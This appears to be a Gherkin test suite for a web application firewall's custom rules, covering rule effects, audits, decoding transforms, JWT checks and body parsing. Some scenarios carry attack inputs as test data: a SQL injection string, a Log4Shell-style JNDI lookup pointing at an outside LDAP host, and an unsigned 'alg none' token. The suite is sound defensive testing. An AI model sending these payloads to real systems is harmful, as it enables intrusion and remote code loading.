@waas @custom @needs:waas
Feature: Rules of the user's own
  An expression over a request, or over an answer and its request. Custom rules go before every other protection; all that an app attaches are
  asked, and each has the effect with which it is attached.

  Background:
    Given the task definition "web-and-worker"

  Rule: A rule that holds has its effect, and its message

    @waas-600 @W98 @core
    Scenario Outline: A path below /admin, effect <effect>
      Given the custom rule 101 "admin area" for requests, with message "%req.http_method of %req.path":
        """
        req.path startswith "/admin"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "action": "audit", "effect": "<effect>"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /admin/users" on port 80
      Then the response has status <status>
      And <number> audits of type "customRule" and effect "<effect>" tell of them
      When a client at "203.0.113.7" requests "GET /?clean=yes" on port 80
      Then the response has status <next>

      Examples:
        | effect  | status | number      | next |
        | disable | 404    | no          | 200  |
        | alert   | 404    | one or more | 200  |
        | prevent | 403    | one or more | 200  |
        | ban     | 403    | one or more | 403  |

    @waas-601 @W98 @core
    Scenario: The audit says what the message says
      Given the custom rule 101 "admin area" for requests, with message "%req.http_method of %req.path by %req.ip":
        """
        req.path startswith "/admin" and req.headers["X-Role"] contains /^(guest|nobody)$/
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "action": "audit", "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /admin/users" on port 80 with headers:
        | X-Role | guest |
      Then the response is the block page
      And the app never saw the request
      And exactly one audit tells of it:
        | type       | customRule                           |
        | effect     | prevent                              |
        | protection | custom                               |
        | msg        | GET of /admin/users by 203.0.113.7   |
      When a client at "203.0.113.7" requests "GET /admin/users" on port 80 with headers:
        | X-Role | owner |
      Then the response has status 404
      And no audit tells of it

  Rule: A rule that allows ends the inspection, without an audit

    @waas-602 @W99 @core
    Scenario Outline: An attack on <path>
      Given the custom rule 101 "scanner of our own" for requests, with message "seen":
        """
        req.path = "/scan"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "action": "audit", "effect": "allow"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET <path>?id=1'%20or%20'1'='1" on port 80
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | path   | status | number |
        | /scan  | 404    | 0      |
        | /other | 403    | 1      |

  Rule: All rules that hold are told of

    @waas-603 @W100 @core
    Scenario: Two rules hold, and one does not
      Given the custom rule 101 "first" for requests, with message "the first":
        """
        req.path = "/"
        """
      And the custom rule 102 "second" for requests, with message "the second":
        """
        req.query_params["clean"] = "yes"
        """
      And the custom rule 103 "third" for requests, with message "the third":
        """
        req.http_method = "POST"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "alert"}, {"_id": 102, "effect": "alert"}, {"_id": 103, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /?clean=yes" on port 80
      Then the response has status 200
      And 2 audits tell of it
      And one or more audits with message "the first" tell of them
      And one or more audits with message "the second" tell of them

    @waas-604 @W100 @core
    Scenario: One that only tells stands behind one that blocks
      Given the custom rule 101 "first" for requests, with message "the first":
        """
        req.path = "/"
        """
      And the custom rule 102 "second" for requests, with message "the second":
        """
        req.query_params["clean"] = "yes"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}, {"_id": 102, "effect": "alert"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /?clean=yes" on port 80
      Then the response is the block page
      And one or more audits with message "the first" tell of them
      And one or more audits with message "the second" tell of them

  Rule: A rule for answers sees the answer, and its request

    @waas-605 @W101 @core
    Scenario Outline: <target>, where successful answers to it are prevented
      Given the custom rule 101 "report is out" for responses, with message "answered %resp.status_code":
        """
        resp.status_code = 200 and req.query_params["report"] = "all" and resp.content_type startswith "text/html"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET <target>" on port 80
      Then the response has status <status>
      And the app saw the request
      And <number> audits tell of it

      Examples:
        | target           | status | number |
        | /?report=all     | 403    | 1      |
        | /?report=some    | 200    | 0      |
        | /lost?report=all | 404    | 0      |

    @waas-606 @W101 @extended
    Scenario: The audit of an answer has its status
      Given the custom rule 101 "report is out" for responses, with message "answered %resp.status_code":
        """
        resp.body contains /(?i)same for everyone/
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | prevent |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /" on port 80
      Then the response is the block page
      And exactly one audit tells of it:
        | type       | customRule   |
        | msg        | answered 200 |
        | statusCode | 200          |

  Rule: The language: lists and networks, transforms, tokens

    @waas-607 @W102 @core
    Scenario Outline: <what>: a method of a list, from a network
      Given the custom rule 101 "rule" for requests, with message "it holds":
        """
        req.ip in ("198.51.100.0/24", "203.0.113.7") and req.headers["X-Env"] in ("test", "stage")
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "<client>" requests "GET <target>" on port 80 with headers:
        | <header> | <value> |
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | what                    | client        | target | header | value | status | number |
        | An address of the list  | 203.0.113.7   | /      | X-Env  | test  | 403    | 1      |
        | An address of the block | 198.51.100.99 | /      | X-Env  | stage | 403    | 1      |
        | An address of neither   | 203.0.113.8   | /      | X-Env  | test  | 200    | 0      |
        | A value of neither      | 203.0.113.7   | /      | X-Env  | live  | 200    | 0      |

    @waas-608 @W103 @core
    Scenario Outline: <what>: transforms within each other
      Given the custom rule 101 "rule" for requests, with message "it holds":
        """
        lowercase(urlQueryDecode(base64Decode(req.headers["X-Data"]))) contains "secret word" or compressWhitespace(htmlEntityDecode(urlQueryDecode(req.query_params["t"]))) contains /\x3cb> x/
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "<client>" requests "GET <target>" on port 80 with headers:
        | <header> | <value> |
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | what                      | client      | target                      | header | value                | status | number |
        | Base64 of an encoded text | 203.0.113.7 | /                           | X-Data | U0VDUkVUJTIwV09SRA== | 403    | 1      |
        | Base64 of something else  | 203.0.113.7 | /                           | X-Data | U0VDUkVUIFRFWFQ=     | 200    | 0      |
        | Entities and white space  | 203.0.113.7 | /?t=%26lt;b%26gt;%20%20%09x | X-Data | -                    | 403    | 1      |
        | Other entities            | 203.0.113.7 | /?t=%26lt;i%26gt;%20x       | X-Data | -                    | 200    | 0      |

    @waas-609 @W104 @core
    Scenario Outline: <what>: a value of the payload
      Given the custom rule 101 "rule" for requests, with message "it holds":
        """
        jwtPayloadValue(req.headers["Authorization"], "role") = "admin"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "<client>" requests "GET <target>" on port 80 with headers:
        | <header> | <value> |
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | what                            | client      | target | header        | value                                                                                                                                | status | number |
        | An admin's token                | 203.0.113.7 | /      | Authorization | Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoiYWRtaW4iLCJleHAiOjQxMDI0NDQ4MDB9.eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg | 403    | 1      |
        | A token without the word before | 203.0.113.7 | /      | Authorization | eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoiYWRtaW4iLCJleHAiOjQxMDI0NDQ4MDB9.eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg        | 403    | 1      |
        | A user's token                  | 203.0.113.7 | /      | Authorization | Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoidXNlciIsImV4cCI6NDEwMjQ0NDgwMH0.eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg  | 200    | 0      |

    @waas-610 @W104 @core
    Scenario Outline: <what>: a token that is not signed, or out of time
      Given the custom rule 101 "rule" for requests, with message "it holds":
        """
        jwtHeaderValue(req.headers["Authorization"], "alg") = "none" or not jwtValid(req.headers["Authorization"])
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "<client>" requests "GET <target>" on port 80 with headers:
        | <header> | <value> |
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | what           | client      | target | header        | value                                                                                                                               | status | number |
        | Algorithm none | 203.0.113.7 | /      | Authorization | Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoidXNlciIsImV4cCI6NDEwMjQ0NDgwMH0.                                                             | 403    | 1      |
        | Out of time    | 203.0.113.7 | /      | Authorization | Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoidXNlciIsImV4cCI6MTAwMDAwMDAwMH0.eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg | 403    | 1      |
        | No token       | 203.0.113.7 | /      | Authorization | Bearer abc                                                                                                                          | 403    | 1      |
        | A good one     | 203.0.113.7 | /      | Authorization | Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoidXNlciIsImV4cCI6NDEwMjQ0NDgwMH0.eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg | 200    | 0      |

  Rule: Fields of a body are what a reader makes of them

    @waas-616 @W98 @core
    Scenario Outline: A field that must not be "eve": <body>
      Given the custom rule 101 "nobody of that name" for requests, with message "found":
        """
        req.body_param_values = "eve"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" sends "POST /" on port 80 as "<kind>":
        """
        <body>
        """
      Then the response has status <status>
      And <number> audits tell of it

      Examples: That name
        | kind                              | body                      | status | number |
        | application/x-www-form-urlencoded | a=b&name=%65ve            | 403    | 1      |
        | application/json                  | {"a": [{"name": "\\u0065ve"}]} | 403 | 1    |
        | application/xml                   | <a><name>eve</name></a>   | 403    | 1      |
        | application/xml                   | <a>e<![CDATA[ve]]></a>    | 403    | 1      |
        | application/xml                   | <a>ev<!-- -->e</a>        | 403    | 1      |
        | application/xml                   | <a>e<b>v</b>e</a>         | 403    | 1      |
        | application/xml                   | <a b="&#101;ve"/>         | 403    | 1      |
      Examples: Another
        | kind                              | body                      | status | number |
        | application/x-www-form-urlencoded | eve=b&name=steven         | 200    | 0      |
        | application/json                  | {"eve": "Eve"}            | 200    | 0      |
        | application/xml                   | <eve>se<b>x</b>ve</eve>   | 200    | 0      |

  Rule: A file's extension is what stands behind the last dot of its name

    @waas-615 @W98 @provisional
    Scenario Outline: "<extension>", and a request for <path>
      Given the custom rule 101 "By extension" for requests, with message "found":
        """
        req.file_extension = "<extension>"
        """
      And the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [{"_id": 101, "effect": "prevent"}]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET <path>" on port 80
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | extension | path            | status | number |
        | gz        | /backup.gz      | 403    | 1      |
        | gz        | /backup.tar.gz  | 403    | 1      |
        | tar.gz    | /backup.tar.gz  | 404    | 0      |
        | gz        | /old.gz/backup  | 404    | 0      |
        | gz        | /backup?file=.gz | 404   | 0      |

  Rule: A script that cannot be understood is refused

    @waas-611 @W105 @core
    Scenario Outline: <what>
      When the custom rule 101 is put with the script:
        """
        <script>
        """
      Then the Console answers <status> <with>

      Examples:
        | what                           | script                                | status | with                                    |
        | An attribute that there is not | req.pth = "/"                         | 400    | with an error about "req.path"          |
        | A term without an end          | (req.path = "/"                       | 400    | with an error about "line 1"            |
        | A wrong pattern                | req.path contains /(/                 | 400    | with an error about "line 1, column 20" |
        | The answer in a request rule   | resp.status_code = 200                | 400    | with an error about "resp.status_code"  |
        | A text where a number belongs  | req.path > 7                          | 400    | with an error about "line 1"            |

    @waas-612 @W105 @core
    Scenario: One that can be understood
      When the custom rule 101 is put with the script:
        """
        not req.ip in "10.0.0.0/8" and (req.path = "/" or req.file_extension in ("php", "asp"))
        """
      Then the Console answers 200

  Rule: The shipped rules are there, and do nothing until they are attached

    @waas-613 @W106 @core
    Scenario Outline: A lookup in a header, the shipped rule attached: <attached>
      Given the firewall rule "front door" from port 80 to port 8080:
        | protection | effect  |
        | sqli       | disable |
      And the app of the firewall rule "front door" also has:
        """
        {"customRules": [<rules>]}
        """
      And the protected task is running
      When a client at "203.0.113.7" requests "GET /" on port 80 with headers:
        | X-Api-Version | <value> |
      Then the response has status <status>
      And <number> audits tell of it

      Examples:
        | attached | rules                           | value                             | status | number |
        | yes      | {"_id": 1, "effect": "prevent"} | ${jndi:ldap://203.0.113.9/a}      | 403    | 1      |
        | yes      | {"_id": 1, "effect": "prevent"} | ${lookup:ldap://203.0.113.9/a}    | 200    | 0      |
        | no       |                                 | ${jndi:ldap://203.0.113.9/a}      | 200    | 0      |

    @waas-614 @W106 @core
    Scenario: The list of a fresh Console
      When the custom rules are listed
      Then there are 20 of owner "system"
